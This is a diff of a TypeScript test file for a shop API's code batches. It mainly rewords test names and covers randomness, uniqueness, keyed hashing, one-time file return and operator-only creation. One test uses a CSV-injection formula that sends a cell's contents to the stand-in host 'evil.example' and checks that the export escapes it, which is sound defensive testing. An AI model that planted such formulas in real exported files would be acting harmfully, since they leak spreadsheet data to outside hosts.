@@ -12,11 +12,11 @@ beforeAll(async () => {
 });
 afterAll(() => shop.close());
 
-it('[SEC-13] codes have 80 random bits, are all different, and are kept as keyed hashes of their tenant', async () => {
+it('[SEC-13] codes have 80 random bits, are unique, and are stored as keyed hashes per tenant', async () => {
   const { body } = await createCodes(shop.api, { count: 300 });
   const codes = codesIn(body.content.csv);
   expect(new Set(codes).size).toBe(300);
-  // Every letter at every place: none of the bits is always the same.
+  // Every letter occurs at every place, so no bit is constant.
   const many = Array.from({ length: 2000 }, newCode);
   for (const at of [0, 3, 5, 18]) expect(new Set(many.map((code) => code[at])).size).toBe(32);
   const stored = await shop.api.db.forTenant('alpha', ({ trx }) =>
@@ -31,7 +31,7 @@ it('[SEC-13] codes have 80 random bits, are all different, and are kept as keyed
   expect(codeHash('a secret', 'alpha', 'X')).not.toBe(codeHash('another', 'alpha', 'X'));
 });
 
-it('the file of a batch is told once; later ones tell what became of its codes', async () => {
+it("the file with a batch's codes is returned once, and exports list their state", async () => {
   const { body } = await createCodes(shop.api, { count: 3, label: 'Members, spring' });
   const [first = ''] = codesIn(body.content.csv);
   const { access } = await signedIn(shop.api, 'ann');
@@ -49,7 +49,7 @@ it('the file of a batch is told once; later ones tell what became of its codes',
   expect(two).toMatch(/"1","0",""$/);
 });
 
-it('no cell of the file is taken for a formula', async () => {
+it('no cell of the file is interpreted as a formula', async () => {
   const attack = '=HYPERLINK("https://evil.example?"&A1,"click")';
   const { body } = await createCodes(shop.api, { label: attack });
   expect(body.content.csv).toContain('"\'=HYPERLINK(""https://evil.example?""&A1,""click"")"');
@@ -58,7 +58,7 @@ it('no cell of the file is taken for a formula', async () => {
   expect(csvOf([['plain', 7, 'a "b"']])).toBe('"plain","7","a ""b"""\r\n');
 });
 
-it('a batch is for something that there is, and is made by operators alone', async () => {
+it('a batch needs an existing product and an operator', async () => {
   const codeOf = (answer: { body: { messageErrorCode?: string } }) => answer.body.messageErrorCode;
   expect(codeOf(await createCodes(shop.api, { productId: 'none' }))).toBe('product_not_found');
   expect(codeOf(await createCodes(shop.api, { productId: 'ticket', eventId: 'none' }))).toBe(
